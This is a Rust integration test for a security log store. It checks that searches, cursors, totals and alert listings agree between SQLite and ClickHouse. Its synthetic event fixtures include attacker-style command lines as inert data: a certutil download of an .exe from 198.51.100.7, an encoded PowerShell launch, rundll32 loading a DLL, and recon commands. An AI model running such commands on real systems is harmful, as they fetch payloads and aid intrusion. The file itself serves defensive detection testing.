//! The search language gives the same results and totals on the embedded store (SQLite) and on
//! ClickHouse, for a suite of queries over the same events: every page, in order, with the same
//! cursors, and the same total. A real ClickHouse server (Debian's `clickhouse-server`,
//! started by `wardwatch-peers`) — skipped where it is not installed, failing under CI.

use serde_json::{Value, json};
use wardwatch_core::{Event, Origin, SourceKind};
use wardwatch_store::{
    Db, DbOptions, Encoded, EventSearch, IndexDb, SearchRequest, TimeCursor, TotalRelation,
    doc_text,
};
use wardwatch_store_clickhouse::{ClickHouse, Layout, NewEvent};

/// A small deterministic generator (the same events on every run).
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }

    fn pick<'a, T>(&mut self, from: &'a [T]) -> &'a T {
        &from[(self.next() % from.len() as u64) as usize]
    }
}

const HOSTS: &[&str] = &[
    "PACS01.hospital.local",
    "pacs01",
    "WS-042",
    "ws-042.corp.example",
    "EHR-DB",
    "Ωmega.lab",
];
const USERS: &[&str] = &["alice", "Bob", "svc_backup", "ANNA.de.Vries", "Jürgen"];
const COMMANDS: &[&str] = &[
    "powershell.exe -enc SQBFAFgA",
    "C:\\Windows\\System32\\cmd.exe /c whoami /priv",
    "rundll32.exe C:\\Users\\Public\\x.dll,Start",
    "\"C:\\Program Files\\PACS\\viewer.exe\" --study 1.2.840",
    "net user /domain",
    "certutil -urlcache -split -f http://198.51.100.7/a.exe",
    "Straße 5% _under_ [brackets] (parens) *star*",
];
const ORGS: &[&str] = &["default", "north", "south"];

fn events(n: usize) -> Vec<Event> {
    let mut r = Lcg(42);
    (0..n)
        .map(|i| {
            // Many events share a second: the order by position breaks the ties.
            let t = 1_770_000_000 + (r.next() % 600) as i64;
            let host = *r.pick(HOSTS);
            let user = *r.pick(USERS);
            let cmd = *r.pick(COMMANDS);
            let id = 4624 + (r.next() % 3) as i64 * 64;
            let (kind, raw) = match i % 5 {
                0 => (
                    SourceKind::Evtx,
                    json!({"Event": {
                        "System": {"EventID": id, "Computer": host, "Channel": "Security"},
                        "EventData": {"TargetUserName": user, "LogonType": (r.next() % 11).to_string(),
                                      "IpAddress": format!("10.0.{}.{}", r.next() % 3, r.next() % 9)},
                    }}),
                ),
                1 => (
                    SourceKind::WinlogbeatEcs,
                    json!({"winlog": {"event_data": {"CommandLine": cmd, "User": user},
                                      "channel": "Microsoft-Windows-Sysmon/Operational"},
                           "host": {"name": host}, "tags": ["beats", {"#text": "nested"}, id]}),
                ),
                2 => (
                    SourceKind::FlatWindows,
                    json!({"EventID": id, "Computer": host, "CommandLine": cmd,
                           "a.b": "literal", "a": {"b": "walked", "c": {"d": r.next() % 5}}}),
                ),
                4 => (
                    SourceKind::Zeek,
                    json!({"_path": "conn", "uid": format!("C{i}"), "id.orig_h": format!("10.0.0.{}", r.next() % 9),
                           "id.resp_h": "10.0.9.1", "id.resp_p": 445, "conn_state": "REJ"}),
                ),
                _ => (
                    SourceKind::Syslog,
                    json!({"message": format!("sshd[{}]: Failed password for {user} from 203.0.113.{} port 22", r.next() % 900, r.next() % 20),
                           "program": "sshd"}),
                ),
            };
            let mut e = Event::new(kind, jiff::Timestamp::from_second(t).unwrap(), raw);
            e.ecs.host_name = Some(host.into());
            e.ecs.user_name = (i % 5 != 0).then(|| user.to_string());
            e.ecs.event_code = Some(id.to_string());
            e.ecs.channel = (i % 4 == 0).then(|| "Security".to_string());
            e.ecs.process_command_line = (i % 4 == 1).then(|| cmd.to_string());
            e.organization = (*r.pick(ORGS)).to_string();
            e.origin = Origin {
                source: ["bulk:beats", "syslog:514", "evtx"][i % 3].into(),
                record_id: Some(i as u64),
                offset: None,
                id: None,
            };
            e
        })
        .collect()
}

/// The queries of the suite: every kind of term and their combinations.
const QUERIES: &[&str] = &[
    "",
    "powershell",
    "\"whoami /priv\"",
    "\"priv whoami\"",
    "host.name:PACS01",
    "host.name:pacs01.hospital.local",
    "host.name:ws-042",
    "Computer:PACS01",
    "Computer:ωmega",
    "host.name:*042*",
    "host.name:ehr-*",
    "user.name:BOB",
    "user.name:jürgen",
    "user.name:anna.de.vries",
    "TargetUserName:alice",
    "EventID:4624",
    "event.code:4688 OR event.code:4752",
    "LogonType:3 AND NOT user.name:alice",
    "-host.name:pacs01 AND -powershell",
    "CommandLine:*\\\\cmd.exe*",
    "CommandLine:\"net user /domain\"",
    "CommandLine:*5%*",
    "CommandLine:*_under_*",
    "CommandLine:*[brackets]*",
    "process.command_line:*certutil*",
    "a.b:literal",
    "a.b:walked",
    "a.c.d:3",
    "tags:nested",
    "tags:beats",
    "log.channel:security",
    "organization.id:north",
    "(user.name:alice OR user.name:bob) AND (EventID:4624 OR sshd)",
    "Failed password",
    "\"203.0.113\"",
    "198.51.100.7",
    "IpAddress:10.0.1.*",
    "nothing-matches-this",
    "NOT *",
    "straße",
];

fn sqlite(dir: &std::path::Path, encoded: &[Encoded]) -> (Db, Vec<(i64, i64)>) {
    let mut db = Db::open(
        dir,
        &DbOptions {
            fsync_every_commit: false,
            ..Default::default()
        },
    )
    .unwrap();
    let mut seqs = Vec::new();
    db.append_encoded(&[encoded.to_vec()], &mut seqs).unwrap();
    // Index the first half only: search must be the same over indexed and unindexed events.
    let entries = db.read_after(0, 100_000).unwrap();
    let half = entries.len() as i64 / 2;
    let rows: Vec<(i64, String)> = db
        .read_docs_after(0, half as usize)
        .unwrap()
        .into_iter()
        .map(|(s, d)| (s, doc_text(&d).unwrap()))
        .collect();
    IndexDb::open(dir, &DbOptions::default())
        .unwrap()
        .commit(half, &rows)
        .unwrap();
    let positions = entries.iter().map(|e| (e.seq, e.received_ns)).collect();
    (db, positions)
}

fn strip(page: &wardwatch_store::EventPage) -> (Vec<Value>, u64, Option<String>) {
    (page.events.clone(), page.total, page.next_cursor.clone())
}

#[test]
fn the_query_language_gives_the_same_results_and_totals_on_both_stores() {
    let test = "the_query_language_gives_the_same_results_and_totals_on_both_stores";
    let Some(peer) = wardwatch_peers::Peer::clickhouse(test) else {
        return;
    };
    let ch =
        ClickHouse::connect(&format!("clickhouse://127.0.0.1:{}/equivalence", peer.port)).unwrap();
    ch.init(&Layout::default()).unwrap();
    // Again: nothing changes.
    ch.init(&Layout::default()).unwrap();

    let dir = tempfile::tempdir().unwrap();
    let encoded: Vec<Encoded> = events(600)
        .into_iter()
        .map(|e| Encoded::new(e).unwrap())
        .collect();
    let (db, positions) = sqlite(dir.path(), &encoded);
    let new: Vec<NewEvent<'_>> = encoded
        .iter()
        .zip(&positions)
        .map(|(e, (seq, received))| NewEvent {
            seq: *seq as u64,
            part: (*seq % 4) as u32,
            received_ns: *received,
            event: e,
        })
        .collect();
    // In three inserts, as workers would.
    for chunk in new.chunks(250) {
        ch.insert(chunk).unwrap();
    }

    let orgs = [
        None,
        Some(vec!["north".to_string()]),
        Some(vec!["default".into(), "south".into()]),
        Some(vec![]),
    ];
    let ranges = [
        (None, None),
        (
            Some(jiff::Timestamp::from_second(1_770_000_100).unwrap()),
            Some(jiff::Timestamp::from_second(1_770_000_400).unwrap()),
        ),
    ];
    let mut compared = 0;
    let mut matched_any = 0;
    for q in QUERIES {
        for org in &orgs {
            for (from, to) in ranges {
                let mut req = SearchRequest {
                    q: q.to_string(),
                    from,
                    to,
                    limit: 37,
                    orgs: org.clone(),
                    // Exact totals from the embedded store too.
                    count_time: Some(std::time::Duration::from_secs(600)),
                    sample: 50,
                    ..Default::default()
                };
                let mut pages = 0;
                loop {
                    let a = db.search_events(&req).unwrap();
                    let b = ch.search_events(&req).unwrap();
                    assert_eq!(a.total_relation, TotalRelation::Exact, "{q}");
                    assert_eq!(
                        strip(&a),
                        strip(&b),
                        "query {q:?} orgs {org:?} range {from:?}..{to:?} page {pages}"
                    );
                    assert_eq!(a.sample, b.sample, "sample of {q:?}");
                    compared += 1;
                    if a.total > 0 {
                        matched_any += 1;
                    }
                    pages += 1;
                    match a.next_cursor {
                        Some(c) => req.cursor = Some(c),
                        None => break,
                    }
                }
            }
        }
    }
    eprintln!(
        "same results: {} queries x {} organization filters x {} ranges, {compared} pages compared, {matched_any} with matches",
        QUERIES.len(),
        orgs.len(),
        ranges.len()
    );
    // The suite is not vacuous: many pages, and most queries find something.
    assert!(compared > 400, "{compared} pages compared");
    assert!(matched_any > 200, "{matched_any} pages with matches");
    for bad in ["(unclosed", "a:", "AND x"] {
        let req = SearchRequest {
            q: bad.into(),
            limit: 10,
            ..Default::default()
        };
        assert_eq!(
            db.search_events(&req).unwrap_err().to_string(),
            ch.search_events(&req).unwrap_err().to_string()
        );
    }

    // Reading by time (retro-hunt), who sent what, and per-source counts agree too.
    for org in ORGS.iter().map(|o| Some(*o)).chain([None]) {
        let (mut c1, mut c2): (Option<TimeCursor>, Option<TimeCursor>) = (None, None);
        loop {
            let (a, n1) = db
                .events_between(
                    org,
                    1_770_000_050_000_000_000,
                    1_770_000_500_000_000_000,
                    c1,
                    23,
                )
                .unwrap();
            let (b, n2) = ch
                .events_between(
                    org,
                    1_770_000_050_000_000_000,
                    1_770_000_500_000_000_000,
                    c2,
                    23,
                )
                .unwrap();
            let key = |v: &[wardwatch_store::JournalEntry]| {
                v.iter()
                    .map(|e| (e.seq, e.received_ns, e.event.clone()))
                    .collect::<Vec<_>>()
            };
            assert_eq!(key(&a), key(&b));
            assert_eq!(n1, n2);
            if a.is_empty() {
                break;
            }
            (c1, c2) = (n1, n2);
        }
    }
    // The network summary's walk: Zeek and EVE records only, the cursor the last row read.
    for orgs in [None, Some(vec!["north".to_string()])] {
        let (mut c1, mut c2): (Option<TimeCursor>, Option<TimeCursor>) = (None, None);
        let mut seen = 0;
        loop {
            let (a, n1) = db
                .network_events_between(
                    orgs.as_deref(),
                    1_770_000_000_000_000_000,
                    1_770_000_600_000_000_000,
                    c1,
                    17,
                )
                .unwrap();
            let (b, n2) = ch
                .network_events_between(
                    orgs.as_deref(),
                    1_770_000_000_000_000_000,
                    1_770_000_600_000_000_000,
                    c2,
                    17,
                )
                .unwrap();
            assert_eq!((&a, n1), (&b, n2));
            seen += a.len();
            if n1.is_none() {
                break;
            }
            (c1, c2) = (n1, n2);
        }
        assert!(seen > 10, "{seen} network records");
    }
    let mut a = db.source_rows(100, 400).unwrap();
    let mut b = ch.source_rows(100, 400).unwrap();
    let order = |r: &wardwatch_store::SourceRow| {
        (
            r.source.clone(),
            r.kind.clone(),
            r.host.clone(),
            r.org.clone(),
        )
    };
    a.sort_by_key(order);
    b.sort_by_key(order);
    assert_eq!(a, b);
    assert_eq!(
        db.events_by_source(
            1_770_000_200_000_000_000,
            1_770_000_300_000_000_000,
            150_000_000_000
        )
        .unwrap(),
        ch.events_by_source(
            1_770_000_200_000_000_000,
            1_770_000_300_000_000_000,
            150_000_000_000
        )
        .unwrap()
    );
}

#[test]
fn a_redelivered_batch_is_recognized_and_old_days_are_dropped() {
    let test = "a_redelivered_batch_is_recognized_and_old_days_are_dropped";
    let Some(peer) = wardwatch_peers::Peer::clickhouse(test) else {
        return;
    };
    let ch = ClickHouse::connect(&format!("http://127.0.0.1:{}/days", peer.port)).unwrap();
    ch.init(&Layout {
        retention_days: Some(30),
    })
    .unwrap();
    let encoded: Vec<Encoded> = events(40)
        .into_iter()
        .map(|e| Encoded::new(e).unwrap())
        .collect();
    let day = 86_400_000_000_000i64;
    let now = jiff::Timestamp::from_second(1_770_000_000).unwrap();
    let now_ns = now.as_nanosecond() as i64;
    let new: Vec<NewEvent<'_>> = encoded
        .iter()
        .enumerate()
        .map(|(i, e)| NewEvent {
            seq: 100 + i as u64,
            part: 1,
            // Half received 40 days ago, half today.
            received_ns: if i < 20 { now_ns - 40 * day } else { now_ns },
            event: e,
        })
        .collect();
    ch.insert(&new[..30]).unwrap();
    assert_eq!(
        ch.stored_among(1, &(95..140).collect::<Vec<_>>()).unwrap(),
        (100..130).collect::<Vec<_>>()
    );
    assert!(ch.stored_among(2, &[100, 101]).unwrap().is_empty());
    let all = SearchRequest {
        limit: 1000,
        ..Default::default()
    };
    assert_eq!(ch.search_events(&all).unwrap().total, 30);
    assert_eq!(
        ch.retain_days(now, std::time::Duration::from_secs(30 * 86_400))
            .unwrap(),
        1
    );
    assert_eq!(ch.search_events(&all).unwrap().total, 10);
    assert_eq!(
        ch.retain_days(now, std::time::Duration::from_secs(30 * 86_400))
            .unwrap(),
        0
    );
}

#[test]
fn a_server_that_is_down_is_an_error_naming_it() {
    let port = wardwatch_peers::free_port();
    let ch = ClickHouse::connect(&format!("clickhouse://127.0.0.1:{port}/x")).unwrap();
    let e = ch.version().unwrap_err().to_string();
    assert!(
        e.starts_with("clickhouse: ") && e.contains(&format!("127.0.0.1:{port}")),
        "{e}"
    );
    for bad in [
        "postgres://x/y",
        "clickhouse://user:pw@host/db",
        "clickhouse://host/db;drop",
        "clickhouse:///db",
    ] {
        assert!(ClickHouse::connect(bad).is_err(), "{bad}");
    }
    assert_eq!(
        ClickHouse::connect("clickhouse://ch1").unwrap().endpoint(),
        "http://ch1:8123"
    );
}

/// Alerts over the suite's events: three rules (one a privacy analytic), levels, hosts, users,
/// many raised at the same time.
fn alerts_of(entries: &[(i64, Event)]) -> Vec<(wardwatch_core::Alert, i64)> {
    use wardwatch_core::{Alert, AlertId, Entity, EntityKind, EventRef, Severity};
    let rules = [
        ("rule-remote-exec", "Remote execution", Severity::High),
        ("rule-recon", "Discovery commands", Severity::Low),
        (
            "analytic-privacy-self",
            "Own record opened",
            Severity::Medium,
        ),
    ];
    let mut out = Vec::new();
    for (seq, e) in entries {
        for (i, (rule, title, level)) in rules.iter().enumerate() {
            if (seq + i as i64) % 3 != 0 {
                continue;
            }
            let mut entities = vec![Entity::new(
                EntityKind::Host,
                e.ecs.host_name.clone().unwrap_or_default(),
            )];
            if let Some(u) = &e.ecs.user_name {
                entities.push(Entity::new(EntityKind::User, u.clone()));
            }
            let alert = Alert {
                id: AlertId::for_journal(rule, *seq),
                rule_id: rule.to_string(),
                rule_title: title.to_string(),
                level: if seq % 7 == 0 {
                    Severity::Critical
                } else {
                    *level
                },
                tags: vec![if i == 0 {
                    "attack.lateral_movement".into()
                } else {
                    "attack.discovery".into()
                }],
                timestamp: e.timestamp,
                organization: e.organization.clone(),
                host: e.ecs.host_name.clone(),
                entities,
                event: EventRef {
                    origin: e.origin.clone(),
                    event_code: e.ecs.event_code.clone(),
                    channel: None,
                },
                recommendation: Some("Check the host.".into()),
                awareness: None,
                facts: Default::default(),
            };
            out.push((alert, *seq));
        }
    }
    out
}

#[test]
fn alerts_are_listed_and_counted_the_same_on_both_stores() {
    use wardwatch_core::Severity;
    use wardwatch_store::{AlertStore, DetectionCommit, DetectionStore, PrivacyScope};
    use wardwatch_store_clickhouse::NewAlert;
    let test = "alerts_are_listed_and_counted_the_same_on_both_stores";
    let Some(peer) = wardwatch_peers::Peer::clickhouse(test) else {
        return;
    };
    let ch = ClickHouse::connect(&format!("clickhouse://127.0.0.1:{}/alerts", peer.port)).unwrap();
    ch.init(&Layout::default()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let encoded: Vec<Encoded> = events(600)
        .into_iter()
        .map(|e| Encoded::new(e).unwrap())
        .collect();
    let (mut db, positions) = sqlite(dir.path(), &encoded);
    let entries: Vec<(i64, Event)> = positions
        .iter()
        .zip(&encoded)
        .map(|((seq, _), e)| (*seq, e.event.clone()))
        .collect();
    let new: Vec<NewEvent<'_>> = encoded
        .iter()
        .zip(&positions)
        .map(|(e, (seq, received))| NewEvent {
            seq: *seq as u64,
            part: 0,
            received_ns: *received,
            event: e,
        })
        .collect();
    ch.insert(&new).unwrap();
    let alerts = alerts_of(&entries);
    assert!(alerts.len() > 500, "{}", alerts.len());
    // Committed in batches, as a worker does; the same order in both (SQLite's rowid is the
    // listing order of alerts raised at the same time, `ord` here).
    let created = 1_770_001_000_000_000_000i64;
    for (b, batch) in alerts.chunks(97).enumerate() {
        let rows: Vec<_> = batch.iter().map(|(a, seq)| (a.clone(), *seq, 7)).collect();
        db.commit_detection(&DetectionCommit {
            worker: "detect",
            cursor: batch.last().unwrap().1,
            alerts: &rows,
            ..Default::default()
        })
        .unwrap();
        let new: Vec<NewAlert<'_>> = batch
            .iter()
            .enumerate()
            .map(|(i, (a, seq))| NewAlert {
                ord: (b * 97 + i + 1) as u64,
                alert: a,
                seq: *seq as u64,
                created_ns: created,
                latency_ns: 7,
            })
            .collect();
        ch.insert_alerts(&new).unwrap();
    }
    // A worker redelivered a batch finds its alerts stored.
    let ids: Vec<String> = alerts[..5].iter().map(|(a, _)| a.id.0.clone()).collect();
    let mut sorted = ids.clone();
    sorted.sort();
    let mut asked = ids.clone();
    asked.push("no-such-alert".into());
    assert_eq!(ch.stored_alerts(&asked).unwrap(), sorted);

    let mut pages = 0;
    for min_level in [Severity::Informational, Severity::High] {
        for rule in [None, Some("rule-recon")] {
            for host in [None, Some("PACS01.HOSPITAL.local")] {
                for (orgs, privacy) in [
                    (None, PrivacyScope::Without),
                    (Some(vec!["north".to_string()]), PrivacyScope::With),
                    (None, PrivacyScope::Only),
                    (Some(vec![]), PrivacyScope::With),
                ] {
                    let mut req = SearchRequest {
                        limit: 41,
                        orgs: orgs.clone(),
                        privacy,
                        from: Some(jiff::Timestamp::from_second(1_770_000_060).unwrap()),
                        ..Default::default()
                    };
                    loop {
                        let a = db.list_alerts(&req, min_level, rule, host).unwrap();
                        let b = ch.list_alerts(&req, min_level, rule, host).unwrap();
                        assert_eq!(
                            (&a.alerts, a.total, &a.next_cursor),
                            (&b.alerts, b.total, &b.next_cursor),
                            "{min_level:?} {rule:?} {host:?} {orgs:?} {privacy:?}"
                        );
                        pages += 1;
                        match a.next_cursor {
                            Some(c) => req.cursor = Some(c),
                            None => break,
                        }
                    }
                }
            }
        }
    }
    assert!(pages > 40, "{pages} pages");
    for (a, _) in alerts.iter().step_by(50) {
        assert_eq!(db.alert(&a.id.0).unwrap(), ch.alert(&a.id.0).unwrap());
    }
    assert_eq!(ch.alert("no-such-alert").unwrap(), None);

    let (from, to, bucket) = (
        1_770_000_000_000_000_000,
        1_770_000_600_000_000_000,
        60_000_000_000,
    );
    for orgs in [None, Some(&["south".to_string()][..])] {
        assert_eq!(
            db.alert_histogram(from, to, bucket, orgs).unwrap(),
            ch.alert_histogram(from, to, bucket, orgs).unwrap()
        );
        assert_eq!(
            db.rule_histogram("rule-remote-exec", from, to, bucket, orgs)
                .unwrap(),
            ch.rule_histogram("rule-remote-exec", from, to, bucket, orgs)
                .unwrap()
        );
        let sorted = |mut v: Vec<(String, u64)>| {
            v.iter_mut().for_each(|(k, _)| *k = k.to_lowercase());
            v.sort();
            v
        };
        assert_eq!(
            sorted(db.top_alert_hosts(from, 100, orgs).unwrap()),
            sorted(ch.top_alert_hosts(from, 100, orgs).unwrap())
        );
        assert_eq!(
            sorted(db.top_alert_users(from, 100, orgs).unwrap()),
            sorted(ch.top_alert_users(from, 100, orgs).unwrap())
        );
        let mut a = db.rule_hits(from, orgs).unwrap();
        let mut b = ch.rule_hits(from, orgs).unwrap();
        a.sort();
        b.sort();
        assert_eq!(a, b);
        assert_eq!(a.len(), 2, "privacy alerts are not counted: {a:?}");
    }
    assert_eq!(
        db.alert_counts_by_rule(from, to, 10).unwrap(),
        ch.alert_counts_by_rule(from, to, 10).unwrap()
    );
    let mut a = db
        .alert_docs_with(from, to, &["ATTACK.LATERAL_MOVEMENT"], 10_000)
        .unwrap();
    let mut b = ch
        .alert_docs_with(from, to, &["ATTACK.LATERAL_MOVEMENT"], 10_000)
        .unwrap();
    assert!(!a.is_empty());
    a.sort();
    b.sort();
    assert_eq!(a, b);
    assert_eq!(
        DetectionStore::cursor(&db, "detect").unwrap().0,
        alerts.last().unwrap().1
    );
}
